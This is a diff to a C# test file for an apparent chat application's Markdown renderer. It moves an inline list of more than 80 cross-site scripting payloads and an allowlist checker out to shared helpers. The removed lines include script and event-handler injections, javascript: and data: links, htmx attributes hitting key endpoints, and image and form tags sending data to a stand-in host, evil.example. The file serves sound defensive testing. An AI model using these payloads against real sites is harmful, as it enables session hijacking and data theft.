@@ -1,5 +1,3 @@
-using AngleSharp.Dom;
-using AngleSharp.Html.Parser;
 using CsCheck;
 using Parley.Chat.Markdown;
 
@@ -8,39 +6,16 @@ namespace Parley.Tests.Chat.Markdown;
 /// <summary>Whatever a model or a person writes, nothing of it acts: the result is read as a browser reads it, and held to a list written here anew.</summary>
 public sealed class AttackTests
 {
-    private static readonly HashSet<string> Tags = ["p", "h3", "h4", "h5", "h6", "em", "strong", "del", "a", "code", "pre", "blockquote", "ul", "ol", "li", "hr", "br", "img", "input", "span", "div", "button", "table", "thead", "tbody", "tr", "th", "td"];
-    private static readonly HashSet<string> Attributes = ["class", "href", "title", "target", "rel", "src", "alt", "loading", "decoding", "type", "disabled", "checked", "aria-label", "tabindex", "start", "data-md", "data-lang"];
-
-    private static readonly string[] Corpus =
-    [
-        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
-        "<iframe src=\"javascript:alert(1)\"></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\">", "<object data=\"data:text/html,x\">", "<embed src=x>", "<form action=//evil.example><input name=q></form>",
-        "<style>*{background:url(//evil.example)}</style>", "<link rel=stylesheet href=//evil.example>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>",
-        "<div hx-get=\"/api/v1/keys\" hx-trigger=load>", "<a hx-post=/api/v1/keys>", "<div data-hx-get=x>", "<p style=\"position:fixed;inset:0\">", "<button formaction=javascript:alert(1)>x</button>",
-        "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<template><script>1</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-        "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](java\nscript:alert(1))", "[a](&#106;avascript:alert(1))", "[a](javascript&colon;alert(1))", "[a](&#x01;javascript:alert(1))", "[a](\u0001javascript:alert(1))",
-        "[a](<java script:alert(1)>)", "[a](vbscript:msgbox)", "[a](data:text/html;base64,PHNjcmlwdD4=)", "[a](file:///etc/passwd)", "[a](blob:https://x/1)", "[a](//evil.example)", "[a](/api/v1/auth/logout)", "[a](\\\\evil.example)",
-        "![a](javascript:alert(1))", "![a](data:image/svg+xml,<svg onload=alert(1)>)", "![a](https://evil.example/p.png?secret=1)", "![a](/api/v1/files/../keys)", "![a](/api/v1/files/x/content)", "![\"onerror=alert(1)](https://e.example/x)",
-        "![a](https://e.example/\"onerror=alert(1))", "![a](/logo.png)", "[a][r]\n\n[r]: javascript:alert(1)", "[r]: javascript:alert(1)\n\n[r]", "![r]\n\n[r]: data:text/html,x 'onload=alert(1)'",
-        "<javascript:alert(1)>", "<data:text/html,x>", "<https://ok.example/\" onclick=\"alert(1)>", "<x@evil.example?subject=\"onclick=1>", "https://ok.example/\"onmouseover=alert(1)",
-        "[a](https://ok.example \"x\\\" onclick=alert(1) y=\\\"\")", "[a](https://ok.example '\"><script>alert(1)</script>')", "text {onclick=alert(1)}", "# head {#id onclick=alert(1)}", "[a](https://ok.example){hx-get=/x}", "```js {onclick=alert(1)}\nx\n```",
-        "```\"><script>alert(1)</script>\nx\n```", "```mermaid\ngraph TD; A[\"<img src=x onerror=alert(1)>\"]; click A \"javascript:alert(1)\"\n```", "```html\n</code></pre><script>alert(1)</script>\n```", "~~~ onload=alert(1)\n</div>\n~~~",
-        "$\\href{javascript:alert(1)}{x}$", "$$\n\\htmlData{hx-get=/x}{y}</div><script>alert(1)</script>\n$$", "\\[<img src=x onerror=alert(1)>\\]", "`<script>alert(1)</script>`", "| <script> | \" onx=1 |\n|---|---|\n| <img src=x onerror=1> | b |",
-        "- [x] <input onfocus=alert(1) autofocus>", "a<br onload=alert(1)>b", "<br/onload=1>", "<BR >", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "<!--><script>alert(1)</script>-->", "<![CDATA[<script>]]>", "<?php ?>", "<a\u00a0onclick=1>",
-        "\u202e<script>\u202c", "[\u202egpj.exe](https://ok.example/a.exe)", "![x](https://ok.example/\u202egnp.exe)", "[file<script>.txt](https://ok.example/f\"><svg/onload=1>.txt)", "[a]: https://ok.example/<script>\n[a]", "\0<script>", "<scr\0ipt>alert(1)</scr\0ipt>",
-        "</p></div></article><script>alert(1)</script>", "<plaintext>", "<xmp><script>", "<title><script>", "<textarea><script>alert(1)</script>",
-    ];
-
     [Fact]
     public void Each_attack_alone_leaves_nothing_active()
     {
-        Assert.True(Corpus.Length > 80);
-        foreach (var attack in Corpus) AssertInert(attack, MarkdownRenderer.Render(attack));
+        Assert.True(Attacks.All.Length > 80);
+        foreach (var attack in Attacks.All) AssertInert(attack, MarkdownRenderer.Render(attack));
     }
 
     [Fact]
     public void Attacks_in_each_others_middle_leave_nothing_active() =>
-        Gen.Select(Law.AnyOf(Corpus), Law.AnyOf(Corpus), Gen.Int[0, 60]).Sample((outer, inner, at) =>
+        Gen.Select(Law.AnyOf(Attacks.All), Law.AnyOf(Attacks.All), Gen.Int[0, 60]).Sample((outer, inner, at) =>
         {
             var text = outer.Insert(Math.Min(at, outer.Length), inner);
             AssertInert(text, MarkdownRenderer.Render(text));
@@ -49,7 +24,7 @@ public sealed class AttackTests
     [Fact]
     public void Tails_are_as_inert_as_the_whole()
     {
-        foreach (var attack in Corpus)
+        foreach (var attack in Attacks.All)
         {
             var markdown = new IncrementalMarkdown();
             foreach (var c in attack)
@@ -63,25 +38,8 @@ public sealed class AttackTests
     [Fact]
     public void The_sanitizer_alone_stops_what_a_renderer_would_let_through()
     {
-        foreach (var attack in Corpus) AssertInert(attack, Parley.Chat.Markdown.Html.MarkdownSanitizer.Clean(attack));
+        foreach (var attack in Attacks.All) AssertInert(attack, Parley.Chat.Markdown.Html.MarkdownSanitizer.Clean(attack));
     }
 
-    private static void AssertInert(string attack, string html)
-    {
-        var document = new HtmlParser().ParseDocument($"<!doctype html><body>{html}");
-        Assert.Empty(document.Head!.Children);
-        foreach (var element in document.Body!.QuerySelectorAll("*"))
-        {
-            Assert.True(Tags.Contains(element.LocalName) && element.NamespaceUri == "http://www.w3.org/1999/xhtml", $"<{element.LocalName}> in {html} from {attack}");
-            foreach (var attribute in element.Attributes) Assert.True(Attributes.Contains(attribute.Name), $"{attribute.Name} in {html} from {attack}");
-            if (element.GetAttribute("href") is { } href) Assert.True(IsHarmless(href), $"{href} from {attack}");
-            if (element.LocalName == "img") Assert.Matches("^/api/v1/files/[0-9a-f-]{36}/(content|thumbnail)$", element.GetAttribute("src") ?? "");
-            if (element.LocalName == "button") Assert.Equal("button", element.GetAttribute("type"));
-            if (element.LocalName == "input") Assert.Equal(("checkbox", true), (element.GetAttribute("type"), element.HasAttribute("disabled")));
-            if (element.LocalName == "a") Assert.Equal(("_blank", "noopener noreferrer nofollow"), (element.GetAttribute("target"), element.GetAttribute("rel")));
-        }
-    }
-
-    private static bool IsHarmless(string href) =>
-        href.StartsWith("https://", StringComparison.OrdinalIgnoreCase) || href.StartsWith("http://", StringComparison.OrdinalIgnoreCase) || href.StartsWith("mailto:", StringComparison.OrdinalIgnoreCase);
+    private static void AssertInert(string attack, string html) => Assert.True(InertHtml.Fault(html) is not { } fault, $"{InertHtml.Fault(html)} from {attack}");
 }
